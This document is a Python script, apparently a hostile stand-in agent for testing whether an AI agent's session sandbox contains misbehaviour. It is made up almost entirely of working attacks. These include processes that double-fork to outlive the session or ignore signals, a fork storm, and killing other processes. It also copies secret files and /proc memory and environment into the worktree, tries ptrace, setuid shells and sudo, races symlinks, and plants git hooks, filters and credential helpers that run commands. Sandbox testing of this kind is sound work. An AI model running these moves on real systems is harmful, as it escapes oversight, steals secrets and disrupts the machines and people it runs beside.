"""The booby-trapped agent: a program of the standard library alone that tries everything, each time in another order.

`trap.py FACTS`: a file of JSON that says where things are and which moves to make. Whatever a move gets hold of it writes into the
worktree, so that it is committed; whatever it may write to, it writes to. It ends well, as if nothing had been.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import random
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

TREE = sys.argv[3] if len(sys.argv) > 3 else os.getcwd()
HOME = os.environ.get("HOME", TREE)
SESSION = os.path.dirname(TREE)
FACTS: dict[str, Any] = {}
MOVES: dict[str, Callable[[], None]] = {}


def move(function: Callable[[], None]) -> Callable[[], None]:
    MOVES[function.__name__] = function
    return function


@contextlib.contextmanager
def trying() -> Iterator[None]:
    with contextlib.suppress(Exception):
        yield


def loot(path: str, name: str) -> None:
    with trying(), open(path, "rb") as file, open(f"{TREE}/loot-{name}", "wb") as kept:
        kept.write(file.read(100_000))


def exchange(path: str, target: str) -> None:
    """A link in the place of whatever is there."""
    with trying():
        if os.path.isdir(path) and not os.path.islink(path):
            os.rename(path, f"{path}.{random.randrange(10**9)}")
        elif os.path.lexists(path):
            os.unlink(path)
    with trying():
        os.symlink(target, path)


def apart(work: Callable[[], None], *, bare: bool = False) -> None:
    """A grandchild in a session of its own, that nobody waits for or hears; `bare`: begun anew as a program with an empty environment."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    with trying():
        os.setsid()
    for number in range(3):
        with trying():
            os.close(number)
    with trying():
        if bare:
            os.execve(sys.executable, [sys.executable, __file__, sys.argv[1], work.__name__, TREE], {})
        work()
    os._exit(0)


# ── what outlives ─────────────────────────────────────────────────────────────────────────────────────────────────────


@move
def double_fork() -> None:
    for bare in (False, True):
        for _ in range(3):
            apart(sleep, bare=bare)


@move
def double_fork_with_its_environment() -> None:
    for _ in range(3):
        apart(sleep)


def sleep() -> None:
    """Does nothing for long."""
    time.sleep(600)


@move
def ignores_everything() -> None:
    def stay() -> None:
        for number in range(1, 65):
            with trying():
                signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(1)

    apart(stay)


@move
def storm() -> None:
    """Forks as long as it lives, each child in a session of its own; few, for there are others on this machine."""

    def fork() -> None:
        resource.setrlimit(resource.RLIMIT_NPROC, (120, 120))
        until = time.monotonic() + 20
        while time.monotonic() < until:
            with trying():
                if os.fork() == 0:
                    os.setsid()
                else:
                    time.sleep(random.random() / 20)
                with trying():
                    os.waitpid(-1, os.WNOHANG)

    for _ in range(2):
        apart(fork)
    time.sleep(0.1)


@move
def kills_the_killer() -> None:
    """Signals all that it may, again and again: whoever comes to end it would be ended first."""

    def fire() -> None:
        while True:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                for pid in os.listdir("/proc"):
                    if pid.isdigit() and int(pid) not in (os.getpid(), *FACTS["agent"]):
                        with trying():
                            os.kill(int(pid), number)

    apart(fire)


# ── what is not the agent's ───────────────────────────────────────────────────────────────────────────────────────────


@move
def reads_files() -> None:
    for number, path in enumerate(FACTS["secrets"]):
        loot(path, f"read-{number}")
        for how in (os.symlink, os.link):
            with trying():
                how(path, f"{TREE}/{how.__name__}-{number}")
            with trying():
                how(os.path.dirname(path), f"{TREE}/{how.__name__}-folder-{number}")


@move
def writes_files() -> None:
    for path in FACTS["canaries"]:
        for mode in ("ab", "wb"):
            with trying(), open(path, mode) as file:
                file.write(b"was here")
        with trying():
            os.unlink(path)
        with trying():
            os.rename(path, f"{path}.gone")
        with trying(), open(f"{os.path.dirname(path)}/new", "wb") as file:
            file.write(b"was here")


@move
def exchanges_folders() -> None:
    outside = FACTS["outside"]
    for path in (
        f"{SESSION}/in/attachments", f"{SESSION}/in", f"{SESSION}/home/.claude/projects", f"{SESSION}/home/.claude",
        f"{SESSION}/home/tmp", f"{SESSION}/home", f"{SESSION}/logs", f"{SESSION}/own", f"{SESSION}/own/objects",
        f"{SESSION}/git", f"{SESSION}/view", f"{TREE}/public/img", f"{TREE}/public", f"{TREE}/dist/deep", f"{TREE}/src",
        SESSION,
    ):  # fmt: skip
        if random.random() < 0.5:
            exchange(path, random.choice(outside))
    for name in ("instruction.txt", "context.json", "photo.png", "notes.txt"):
        for folder in (f"{SESSION}/in", f"{SESSION}/in/attachments", f"{TREE}/public/img"):
            if random.random() < 0.5:
                exchange(f"{folder}/{name}", f"{random.choice(outside)}/canary")


@move
def races_with_links() -> None:
    """Folders and links by turns, as fast as it can, for as long as it lives."""
    for bare in (False, True):
        apart(race, bare=bare)


def race() -> None:
    """One of those who do."""
    random.seed(os.getpid())
    paths = (f"{SESSION}/in/attachments", f"{TREE}/public/img", f"{TREE}/dist/deep", f"{TREE}/a/b")
    while True:
        path = random.choice(paths)
        with trying():
            os.makedirs(os.path.dirname(path), exist_ok=True)
            exchange(path, random.choice(FACTS["outside"]))
            time.sleep(random.random() / 200)
        with trying():
            os.unlink(path)
            os.mkdir(path)
        time.sleep(0.001)


# ── the worker itself ─────────────────────────────────────────────────────────────────────────────────────────────────


@move
def attacks_the_worker() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in FACTS["pids"]:
        for name in ("environ", "mem", "maps", "fd/3", "root/etc/shadow", "cwd/secret"):
            loot(f"/proc/{pid}/{name}", f"proc-{name.replace('/', '-')}-{pid}")
        with trying():
            if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
                with open(f"{TREE}/loot-ptrace-{pid}", "w") as file:
                    file.write("attached")
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            with trying():
                os.kill(pid, number)
            with trying():
                os.killpg(pid, number)


@move
def takes_rights() -> None:
    shell = shutil.which("sh") or "/bin/sh"
    with trying():
        shutil.copy(shell, f"{TREE}/shell")
        os.chmod(f"{TREE}/shell", 0o6755)
    for argv in (
        ["su", "-c", "id"],
        ["sudo", "-n", "id"],
        ["unshare", "-Urm", "true"],
        ["mount", "-t", "tmpfs", "x", HOME],
    ):
        with trying():
            subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
    ways: tuple[Callable[[], None], ...] = (
        lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/"),
    )  # fmt: skip
    for become in ways:
        with trying():
            become()
            with open(f"{TREE}/loot-rights", "w") as file:
                file.write("became root")
    with trying():
        os.chown(f"{TREE}/shell", 0, 0)


@move
def leaves_odd_names() -> None:
    inside = os.fsencode(TREE) + b"/it's \xe9\nin"
    for folder in (b"refs", b"objects"):
        os.makedirs(inside + b"/.git/" + folder, exist_ok=True)
    with open(inside + b"/.git/HEAD", "w") as file:
        file.write("ref: refs/heads/main\n")
    for name in (b"caf\xe9.txt", b"a\r\nb", b"-x", b'"q"', b"\xff", b"it's \xe9\nin/caf\xe9"):
        with open(os.fsencode(TREE) + b"/" + name, "wb") as data:
            data.write(b"x")


@move
def leaves_odd_files() -> None:
    with trying():
        os.mkfifo(f"{TREE}/pipe")
    with trying():
        os.mkfifo(f"{SESSION}/in/attachments/pipe")
    for name, device in (("null", (1, 3)), ("disk", (8, 0))):
        with trying():
            os.mknod(f"{TREE}/{name}", 0o666 | 0o060000, os.makedev(*device))
    with trying(), socket.socket(socket.AF_UNIX) as here:
        here.bind("socket")
    with trying():
        os.makedirs(f"{TREE}/closed/inside", exist_ok=True)
        with open(f"{TREE}/closed/file", "w") as file:
            file.write("x")
        os.chmod(f"{TREE}/closed", 0)
    with trying():
        for folder in (f"{SESSION}/in/attachments", f"{SESSION}/own"):
            os.makedirs(f"{folder}/locked/deep", exist_ok=True)
            os.chmod(f"{folder}/locked", 0)
    with trying():
        deep = os.open(TREE, os.O_RDONLY)
        for _ in range(400):
            os.mkdir("d", dir_fd=deep)
            inner = os.open("d", os.O_RDONLY, dir_fd=deep)
            os.close(deep)
            deep = inner
        os.close(deep)


# ── git ───────────────────────────────────────────────────────────────────────────────────────────────────────────────


@move
def plants_in_git() -> None:
    sprung = FACTS["sprung"]
    trap = f"id >> {sprung}"
    config = (
        f'[core]\n\tfsmonitor = "{trap}"\n\thooksPath = {TREE}/.git/hooks\n\tworktree = /\n'
        f'[filter "evil"]\n\tclean = "{trap}; cat"\n\tsmudge = "{trap}; cat"\n[diff "evil"]\n\ttextconv = "{trap}"\n'
        f'[credential]\n\thelper = "!{trap}"\n[include]\n\tpath = {FACTS["secrets"][0]}\n'
    )
    for folder in (f"{TREE}/.git", f"{SESSION}/own", f"{SESSION}/git", f"{TREE}/nested/.git"):
        with trying():
            os.makedirs(f"{folder}/hooks", exist_ok=True)
            with open(f"{folder}/config", "w") as file:
                file.write(config)
        for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction"):
            with trying(), open(f"{folder}/hooks/{name}", "w") as file:
                file.write(f"#!/bin/sh\n{trap}\n")
                os.chmod(f"{folder}/hooks/{name}", 0o755)
        with trying():
            os.makedirs(f"{folder}/objects/info", exist_ok=True)
            with open(f"{folder}/objects/info/alternates", "a") as file:
                file.write("".join(f"{path}\n" for path in FACTS["outside"]))
        with trying(), open(f"{folder}/info/attributes", "w") as file:
            file.write("* filter=evil diff=evil\n")
        for name in ("index.lock", "HEAD.lock", "index.save.lock", "index"):
            with trying(), open(f"{folder}/{name}", "wb") as file:
                file.write(b"DIRC")
    with trying(), open(f"{TREE}/.gitattributes", "w") as file:
        file.write("* filter=evil diff=evil\n")


@move
def puts_another_git() -> None:
    with trying():
        shutil.rmtree(f"{TREE}/.git")
    choice = random.randrange(3)
    with trying():
        if choice == 0:
            with open(f"{TREE}/.git", "w") as file:
                file.write(f"gitdir: {FACTS['runtime']}/store.git\n")
        elif choice == 1:
            os.symlink(f"{FACTS['runtime']}/store.git", f"{TREE}/.git")
        else:
            os.mkdir(f"{TREE}/.git")
            os.symlink(FACTS["secrets"][0], f"{TREE}/.git/HEAD")
            os.symlink(FACTS["secrets"][0], f"{TREE}/.git/packed-refs")
            os.symlink(f"{FACTS['runtime']}/store.git/objects", f"{TREE}/.git/objects")


def main() -> None:
    with open(sys.argv[1], encoding="utf-8") as file:
        FACTS.update(json.load(file))
    if len(sys.argv) > 3:
        {"sleep": sleep, "race": race}[sys.argv[2]]()
        return
    FACTS["agent"] = (os.getpid(), os.getppid())
    random.seed(FACTS["seed"])
    with open(f"{TREE}/work.txt", "a") as file:
        file.write(f"round {FACTS['seed']}\n")
    moves = list(FACTS["moves"])
    random.shuffle(moves)
    for name in moves:
        with trying():
            MOVES[name]()
    with trying():
        os.makedirs(f"{TREE}/dist", exist_ok=True)
        with open(f"{TREE}/dist/index.html", "w") as file:
            file.write("<p>built</p>")
    with open(FACTS["ran"], "w") as file:
        file.write("x")


if __name__ == "__main__":
    main()
